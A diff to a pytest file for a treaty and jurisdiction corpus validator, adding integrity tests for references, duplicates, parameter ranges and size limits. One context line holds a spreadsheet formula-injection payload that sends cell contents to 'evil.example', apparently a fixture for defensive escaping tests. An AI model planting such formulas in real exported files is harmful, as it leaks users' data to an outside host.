@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import json
 import re
+from datetime import date
 from pathlib import Path
 
 import pytest
@@ -14,7 +15,16 @@ import pytest
 from generator.cli import main
 
 from .conftest import ROOT, make_corpus, make_project, tree_hash
-from .test_diff import git, state
+from .test_diff import git
+from .test_diff import state as _state
+
+
+def state(code: str, nationals: str) -> str:
+    """A valid synthetic jurisdiction (tests/test_diff.py), its source saying what kind it is."""
+    text = _state(code, nationals)
+    if "\n    kind:" not in text:
+        text = text.replace("    citation: TEST\n", "    citation: TEST\n    kind: official\n", 1)
+    return text
 
 
 def small_project(tmp_path: Path) -> Path:
@@ -260,7 +270,8 @@ FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
 def relation_text(id: str, title: str, parties: tuple[str, str] = ("BR", "US"),
                   kind: str = "bilateral_treaty") -> str:
     return (f"id: {id}\nkind: {kind}\ntitle: {json.dumps(title)}\nreview: {{status: draft}}\n"
-            "sources:\n  t: {title: Synthetic, citation: TEST, accessed: 2026-11-01}\n"
+            "sources:\n  t: {title: Synthetic, citation: TEST, kind: official, "
+            "accessed: 2026-11-01}\n"
             "source: t\nverified: 2026-11-01\nconfidence: high\n"
             f"parties: [{{code: {parties[0]}}}, {{code: {parties[1]}}}]\n")
 
@@ -372,7 +383,7 @@ def test_every_invisible_format_character_is_rejected_in_text(char: str) -> None
     from generator.models import Source
 
     with pytest.raises(ValueError, match=f"invisible or control character U\\+{ord(char):04X}"):
-        Source.model_validate({"title": f"a{char}b", "citation": "x", "accessed": "2026-01-01"})
+        Source.model_validate({"title": f"a{char}b", "citation": "x", "accessed": date(2026, 1, 1)})
 
 
 def test_explain_and_json_output_escape_terminal_controls(capsys: pytest.CaptureFixture[str]) -> None:
@@ -631,3 +642,111 @@ def test_serve_stops_with_a_message_when_mkdocs_exits(
     assert main(["serve", "--corpus", str(project / "corpus"), "--project", str(project),
                  "--address", f"127.0.0.1:{port}"]) == 2
     assert "comity: mkdocs serve stopped (exit code 1)" in capsys.readouterr().err
+
+
+# --- 9. nothing is accepted silently: references resolve, no duplicates, sane numbers, limits
+# (files the loader does not read: test_files_the_loader_does_not_read_are_reported above)
+
+
+def instrument_corpus(tmp_path: Path, edit: tuple[str, str], name: str = "untoc.yaml",
+                      files: dict[str, str] | None = None) -> Path:
+    from .conftest import SHIPPED
+
+    text = (SHIPPED / "instruments" / name).read_text()
+    assert edit[0] in text
+    root = make_corpus(tmp_path, {"jurisdictions/us.yaml": state("US", "none"), **(files or {})})
+    (root / "instruments" / name).write_text(text.replace(edit[0], edit[1], 1))
+    return root
+
+
+def test_an_instrument_parent_must_exist(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    root = instrument_corpus(tmp_path, ("parent: UNTOC", "parent: UNTOCC"), "untoc_som.yaml")
+    code, out = check(root, capsys)
+    assert code == 1
+    assert re.search(r"corpus/instruments/untoc_som.yaml:\d+:9: parent: unknown instrument "
+                     r"'UNTOCC' \(hint: known instruments: BUDAPEST, ", out), out
+
+
+@pytest.mark.parametrize(("path", "why"), [
+    ("mla.bank_secrecy_refusals", "mla has no field 'bank_secrecy_refusals'"),
+    ("instruments.NOPE.accepts_as_extradition_basis", "instruments has no entry 'NOPE'"),
+    ("evidence.measures.teleportation.available", "evidence.measures has no entry 'teleportation'"),
+    ("extradition.nationals.value", "extradition.nationals is already a fact"),
+    ("evidence.measures", "evidence.measures is a section, not a fact"),
+])
+def test_assessed_by_must_name_a_jurisdiction_fact(
+    tmp_path: Path, path: str, why: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    root = instrument_corpus(tmp_path, ("assessed_by: mla.bank_secrecy_refusal",
+                                        f"assessed_by: {path}"))
+    code, out = check(root, capsys)
+    assert code == 1
+    assert re.search(rf"corpus/instruments/untoc.yaml:\d+:\d+: elements\.\d+\.assessed_by: "
+                     rf"'{re.escape(path)}' names no jurisdiction fact: {re.escape(why)}", out), out
+
+
+def test_every_shipped_assessed_by_resolves() -> None:
+    from generator.integrity import fact_path_problem
+
+    assert fact_path_problem("instruments.UNTOC.accepts_as_extradition_basis",
+                             {"instruments": {"UNTOC"}}) is None
+    assert fact_path_problem("evidence.measures.data_preservation.available", {}) is None
+    assert fact_path_problem("mla.bank_secrecy_refusal", {}) is None
+
+
+def test_two_relations_for_the_same_pair_and_kind_are_rejected(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    root = make_corpus(tmp_path, {
+        "jurisdictions/us.yaml": state("US", "none"), "jurisdictions/br.yaml": state("BR", "none"),
+        "relations/br_us.yaml": relation_text("br_us", "Treaty A"),
+        "relations/us_br_1961.yaml": relation_text("us_br_1961", "Treaty B", ("US", "BR")),
+    })
+    code, out = check(root, capsys)
+    assert code == 1
+    assert "corpus/relations/us_br_1961.yaml:10:1: parties: relation us_br_1961 duplicates " \
+           "br_us: both are a bilateral_treaty between BR, US covering extradition (hint: merge " \
+           "the two files, or remove the one that is superseded)" in out
+
+
+@pytest.mark.parametrize("value", ["-5", str(10**30)])
+def test_absurd_parameters_are_rejected(
+    tmp_path: Path, value: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    text = state("US", "none").replace(
+        "  participation_ocg:\n", f"  participation_ocg:\n    parameters: {{min_persons: {value}}}\n", 1)
+    root = make_corpus(tmp_path, {"jurisdictions/us.yaml": text})
+    code, out = check(root, capsys)
+    assert code == 1
+    assert re.search(r"corpus/jurisdictions/us.yaml:\d+:\d+: offences.participation_ocg."
+                     r"parameters.min_persons: Input should be a whole number from 0 to "
+                     r"1,000,000,000,000 or 'unknown'", out), out
+    root = instrument_corpus(tmp_path / "baseline", ("min_persons: {value: 3,",
+                                                     f"min_persons: {{value: {value},"))
+    code, out = check(root, capsys)
+    assert code == 1
+    assert re.search(rf"untoc.yaml:\d+:\d+: elements\.\d+\.parameters\.min_persons\.value: "
+                     rf"{value} is out of range", out), out
+
+
+def test_the_taxonomy_is_capped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    from generator.limits import LIMITS
+
+    from .conftest import SHIPPED
+
+    taxonomy = (SHIPPED / "offences.yaml").read_text() + "".join(
+        f"  - id: extra_{n}\n    name: Extra {n}\n    description: Padding.\n"
+        for n in range(LIMITS["offences"]))
+    root = make_corpus(tmp_path, {"jurisdictions/us.yaml": state("US", "none"),
+                                  "offences.yaml": taxonomy})
+    code, out = check(root, capsys)
+    assert code == 1
+    assert re.search(r"corpus/offences.yaml:\d+:5: offences.200: the corpus has 2\d\d offences; "
+                     r"the limit is 200", out), out
+
+
+def test_long_text_is_rejected() -> None:
+    from generator.models import Source
+
+    with pytest.raises(ValueError, match="at most 4000 characters"):
+        Source.model_validate({"title": "x" * 4001, "citation": "x", "accessed": date(2026, 1, 1)})
